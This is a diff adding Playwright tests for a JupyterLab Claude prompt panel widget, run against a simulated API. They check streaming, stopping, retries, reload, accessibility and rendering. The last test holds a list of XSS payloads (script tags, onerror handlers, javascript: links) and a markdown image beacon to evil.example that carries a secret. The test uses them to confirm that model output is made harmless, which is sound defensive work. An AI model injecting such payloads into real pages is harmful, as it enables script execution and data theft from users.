@@ -1,0 +1,333 @@
+"""Panels as a person sees them: in JupyterLab, in a browser, answered over real sockets."""
+
+from __future__ import annotations
+
+import re
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Protocol
+
+import nbformat
+import pytest
+from lab_server import LabServer
+from notebook_page import NotebookPage
+from panel_on_page import PanelOnPage
+from playwright.sync_api import expect
+from test_rendering import CONTRAST
+
+from claude_magic.simulator import Simulator, reply
+
+MAKE = "from claude_magic import PromptPanel\npanel = PromptPanel()\npanel"
+COMPUTE = "import time\nend = time.time() + 15\nwhile time.time() < end:\n    sum(range(10_000))"
+LONG = "!simulate long_answer\nAll about sums of powers, please."
+EXPLAIN = "Explain the central limit theorem to someone who knows what a mean is."
+KEY = "sk-ant-browser-test-2b7d0c41"
+
+
+class OpenWith(Protocol):
+    """Opens a notebook with these cells in a fresh page."""
+
+    def __call__(self, *sources: str, theme: str = "Light", width: int = 1200) -> NotebookPage: ...
+
+
+@pytest.fixture(scope="module")
+def sim() -> Iterator[Simulator]:
+    """Streams at a pace that leaves time to look."""
+    with Simulator(chunk_delay=0.03) as simulator:
+        yield simulator
+
+
+@pytest.fixture(scope="module")
+def server(sim: Simulator, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LabServer]:
+    """A JupyterLab whose kernels talk to the simulator as to any server."""
+    variables = {"ANTHROPIC_BASE_URL": sim.url, "ANTHROPIC_API_KEY": KEY, "CLAUDE_MAGIC_INITIAL_BACKOFF": "4"}
+    with LabServer(tmp_path_factory.mktemp("lab") / "server", variables) as lab:
+        yield lab
+
+
+@pytest.fixture
+def open_with(
+    open_notebook: Callable[..., NotebookPage], server: LabServer, request: pytest.FixtureRequest
+) -> OpenWith:
+    """Return a function that opens a notebook with these cells."""
+
+    def open_notebook_with(*sources: str, theme: str = "Light", width: int = 1200) -> NotebookPage:
+        cells = [nbformat.v4.new_code_cell(source) for source in sources]
+        name = re.sub(r"\W+", "-", request.node.name)
+        return open_notebook(
+            server.write_notebook(f"{name}.ipynb", cells), server=server, theme=theme, width=width
+        )
+
+    return open_notebook_with
+
+
+def panel_in(notebook: NotebookPage, cell: int = 0) -> PanelOnPage:
+    """Run a cell that shows a panel, and return the panel."""
+    notebook.run_cell(cell)
+    return shown_panel(notebook, cell)
+
+
+def shown_panel(notebook: NotebookPage, cell: int = 0) -> PanelOnPage:
+    """Return the panel that a cell shows."""
+    panel = PanelOnPage(notebook.output(cell).get_by_role("region", name="Claude panel"))
+    expect(panel.prompt).to_be_visible()
+    return panel
+
+
+def test_a_typed_question_is_answered_while_it_streams(open_with: OpenWith) -> None:
+    """The keyboard sends without running the cell; the picture grows; the file keeps panel and transcript, and no key."""
+    notebook = open_with(MAKE)
+    panel = panel_in(notebook)
+
+    panel.ask(EXPLAIN)
+    expect(panel.answers.locator("h1, h2, h3").first).to_be_visible()
+    half_way = panel.answer_length()
+    notebook.screenshot("panel-half-way")
+    panel.expect_answers(1)
+    at_the_end = panel.answer_length()
+    notebook.screenshot("panel-end")
+
+    assert half_way < at_the_end
+    expect(panel.answers.locator("mjx-container").first).to_be_visible()
+    expect(panel.footers).to_contain_text(re.compile(r"\d+ tokens in · \d+ out · \$"))
+    expect(panel.prompt).to_have_value("")
+    expect(notebook.cell(0).locator(".jp-InputPrompt").first).to_have_text("[1]:")
+    outputs = notebook.saved().cells[0].outputs
+    assert "application/vnd.jupyter.widget-view+json" in outputs[0].data
+    assert "68.3" in outputs[1].data["text/markdown"]
+    assert set(outputs[1].data) == {"text/html", "text/markdown"}
+    assert KEY not in Path(notebook.path).read_text(encoding="utf-8")
+
+
+def test_a_panel_streams_and_stops_while_a_cell_computes(open_with: OpenWith, sim: Simulator) -> None:
+    """A question is sent, streams and is stopped in the middle of a cell that never lets go; the partial answer stays."""
+    notebook = open_with(MAKE, COMPUTE)
+    panel = panel_in(notebook)
+
+    notebook.start_cell(1)
+    expect(notebook.cell(1).locator(".jp-InputPrompt").first).to_have_text("[*]:")
+    panel.ask(LONG)
+    expect(panel.answers.locator("h1").first).to_be_visible()
+    length = panel.answer_length()
+    assert wait_until(lambda: panel.answer_length() > length)
+    panel.button("Stop").click()
+    expect(panel.footers).to_contain_text("Interrupted")
+    notebook.screenshot("panel-stopped-while-a-cell-computes")
+
+    expect(notebook.cell(1).locator(".jp-InputPrompt").first).to_have_text("[*]:")
+    assert wait_until(lambda: sim.requests[-1].client_gone)
+    expect(panel.button("Send")).to_be_enabled()
+    expect(panel.answers.locator("h1").first).to_be_visible()
+    notebook.interrupt()
+    notebook.wait_until_idle()
+
+
+def test_a_retry_is_shown_with_its_countdown(open_with: OpenWith) -> None:
+    """Waiting is said where the answer will stand: why, how long, which attempt."""
+    notebook = open_with(MAKE)
+    panel = panel_in(notebook)
+
+    panel.ask("!simulate overloaded_once\nSay exactly: here again")
+    expect(panel.answers).to_contain_text(re.compile(r"overloaded.*retrying in \d+ s.*attempt 2 of 4", re.I))
+    notebook.screenshot("panel-retrying")
+    panel.expect_answers(1)
+
+    expect(panel.answers).to_contain_text("here again")
+    expect(panel.answers).not_to_contain_text("retrying in")
+
+
+def test_two_panels_stream_at_once_each_in_its_own_conversation(open_with: OpenWith, sim: Simulator) -> None:
+    """Neither waits for the other, and what was asked in one is not sent by the other."""
+    notebook = open_with(MAKE, MAKE)
+    panels = [panel_in(notebook, 0), panel_in(notebook, 1)]
+
+    for panel in panels:
+        panel.ask(LONG)
+    for panel in panels:
+        expect(panel.answers.locator("h1").first).to_be_visible()
+    lengths = [panel.answer_length() for panel in panels]
+    assert wait_until(lambda: all(p.answer_length() > n for p, n in zip(panels, lengths, strict=True)))
+    notebook.screenshot("two-panels")
+    for panel in panels:
+        panel.button("Stop").click()
+        panel.expect_answers(1)
+    panels[1].ask("What did I ask before?")
+    panels[1].expect_answers(2)
+
+    assert [len(request.body["messages"]) for request in sim.requests[-3:]] == [1, 1, 3]
+
+
+def test_an_answer_can_be_copied_moved_named_and_asked_for_again(open_with: OpenWith, sim: Simulator) -> None:
+    """Each action does what its label says, and tells that it has."""
+    notebook = open_with(MAKE, "print(mean_code.phase.name, len(mean_code) > 20, len(panel.replies))")
+    notebook.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    panel = panel_in(notebook)
+    panel.ask("Write a python function for the mean.")
+    panel.expect_answers(1)
+
+    panel.button("Copy").click()
+    expect(panel.note).to_have_text("Copied.")
+    copied = notebook.page.evaluate("navigator.clipboard.readText()")
+    panel.button("Variable").click()
+    panel.root.get_by_placeholder("name, then Enter").fill("mean_code")
+    panel.root.get_by_placeholder("name, then Enter").press("Enter")
+    expect(panel.note).to_have_text("mean_code is this answer now.")
+    panel.button("New cell").click()
+    expect(panel.note).to_have_text("Inserted below.")
+    expect(notebook.cell(1).locator(".cm-content")).to_contain_text("def mean")
+    notebook.screenshot("panel-actions")
+    panel.button("Retry").click()
+    panel.expect_answers(1)
+    notebook.run_cell(2)
+
+    assert "def mean" in copied
+    expect(notebook.output(2)).to_have_text("COMPLETE True 1")
+    assert [len(request.body["messages"]) for request in sim.requests[-2:]] == [1, 1]
+
+
+def test_a_reloaded_page_shows_the_panel_as_it_was_and_goes_on(open_with: OpenWith) -> None:
+    """The kernel has kept everything: the finished answer, the one that streams, and the settings."""
+    notebook = open_with(MAKE)
+    panel = panel_in(notebook)
+    panel.ask("Say exactly: before the reload")
+    panel.expect_answers(1)
+    panel.button("Settings").click()
+    panel.root.get_by_label("Effort").select_option("low")
+    notebook.saved()
+    panel.ask(LONG)
+    expect(panel.answers.nth(1).locator("h1").first).to_be_visible()
+
+    notebook.open()
+    panel = shown_panel(notebook)
+    expect(panel.answers.first).to_contain_text("before the reload")
+    length = panel.answer_length(1)
+    assert wait_until(lambda: panel.answer_length(1) > length)
+    panel.button("Stop").click()
+    expect(panel.footers.nth(1)).to_contain_text("Interrupted")
+    notebook.screenshot("panel-reloaded")
+
+    expect(panel.root.get_by_label("Effort")).to_have_value("low")
+
+
+def test_a_notebook_without_its_kernel_still_tells_what_was_said(open_with: OpenWith) -> None:
+    """While the panel lives the transcript is hidden; without it, it can be read."""
+    notebook = open_with(MAKE)
+    panel = panel_in(notebook)
+    panel.ask(EXPLAIN)
+    panel.expect_answers(1)
+    transcript = notebook.output(0).locator(".claude-magic-transcript")
+    expect(transcript).to_have_count(1)
+    expect(transcript).to_be_hidden()
+    notebook.saved()
+
+    notebook.execute("kernelmenu:shutdown")
+    notebook.open()
+
+    expect(transcript).to_be_visible()
+    expect(transcript).to_contain_text(EXPLAIN)
+    expect(transcript.locator("mjx-container").first).to_be_visible()
+    notebook.screenshot("panel-without-kernel")
+
+
+@pytest.mark.parametrize("theme", ["Light", "Dark"])
+@pytest.mark.parametrize("width", [600, 1600])
+def test_a_panel_fits_its_place_and_its_theme(open_with: OpenWith, theme: str, width: int) -> None:
+    """Nothing sticks out at either width, and all words can be read in either theme."""
+    notebook = open_with(MAKE, theme=theme, width=width)
+    if width < 800:
+        notebook.execute("application:toggle-left-area")
+    panel = panel_in(notebook)
+    panel.ask(EXPLAIN)
+    panel.expect_answers(1)
+    panel.ask("Write a python function for the mean.")
+    panel.expect_answers(2)
+    panel.button("Settings").click()
+    expect(panel.root.get_by_label("Model")).to_be_visible()
+    notebook.screenshot(f"panel-{theme.lower()}-{width}")
+
+    excess = panel.root.evaluate(
+        """root => [...root.querySelectorAll("button, textarea, input, select, .claude-magic-footer")]
+            .filter(node => node.offsetParent)
+            .map(node => [node, node.getBoundingClientRect(), root.getBoundingClientRect()])
+            .filter(([node, own, all]) => own.right > all.right + 1 || own.left < all.left - 1)
+            .map(([node]) => node.outerHTML.slice(0, 200))"""
+    )
+    words = {
+        "question": panel.root.locator(".claude-magic-exchange > div").first.locator("div").last,
+        "answer": panel.answers.first.locator("p:visible").last,
+        "footer": panel.footers.first.locator("div", has_text="tokens in").last,
+        "action": panel.button("Copy").first,
+        "send": panel.button("Send"),
+        "label": panel.root.get_by_text("Max tokens", exact=True),
+    }
+    contrast = {name: word.evaluate(CONTRAST) for name, word in words.items()}
+    assert excess == []
+    assert {name: ratio for name, ratio in contrast.items() if ratio < 4.0} == {}
+
+
+def test_the_keyboard_reaches_everything_in_the_order_of_sight(open_with: OpenWith) -> None:
+    """Tab goes from the prompt to the buttons and the settings; each has a name."""
+    notebook = open_with(MAKE)
+    panel = panel_in(notebook)
+    panel.button("Settings").press("Enter")
+    expect(panel.root.get_by_label("Model")).to_be_visible()
+
+    panel.prompt.focus()
+    names = []
+    for _ in range(9):
+        notebook.page.keyboard.press("Tab")
+        names.append(notebook.page.evaluate(NAME_OF_FOCUSED))
+
+    assert names == [
+        "Send",
+        "Settings",
+        "Clear",
+        "Model",
+        "Effort",
+        "Thinking",
+        "Max tokens",
+        "Thread",
+        "System",
+    ]
+
+
+NAME_OF_FOCUSED = """() => {
+    const node = document.activeElement;
+    return node.getAttribute("aria-label") || node.labels?.[0]?.textContent || node.textContent;
+}"""
+
+
+def test_a_hostile_answer_does_nothing_in_a_panel(open_with: OpenWith, sim: Simulator) -> None:
+    """Streaming and at the end, markup that a model wrote is text, and no other host is asked for anything."""
+    payloads = [
+        '<img src=x onerror="window.pwned=1">',
+        "<script>window.pwned=1</script>",
+        "[click](javascript:window.pwned=1)",
+        "![beacon](https://evil.example/beacon.png?secret)",
+        '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+        "<style>body{display:none}</style>",
+        r"$\href{javascript:window.pwned=1}{x}$",
+    ]
+    sim.script(reply(chunks=[part for payload in payloads for part in (payload[:9], payload[9:] + "\n\n")]))
+    notebook = open_with(MAKE)
+    panel = panel_in(notebook)
+
+    panel.ask("<img src=x onerror='window.pwned=1'> What is this?")
+    panel.expect_answers(1)
+    notebook.page.wait_for_timeout(500)
+
+    assert notebook.page.evaluate("window.pwned") is None
+    assert panel.root.locator("script, iframe, style, img").count() == 0
+    assert panel.root.locator("a[href^='javascript']").count() == 0
+    assert notebook.outside_requests == []
+
+
+def wait_until(condition: Callable[[], bool], timeout: float = 20.0) -> bool:
+    """Wait for a condition; return whether it came true."""
+    deadline = time.monotonic() + timeout
+    while not condition():
+        if time.monotonic() > deadline:
+            return False
+        time.sleep(0.05)
+    return True
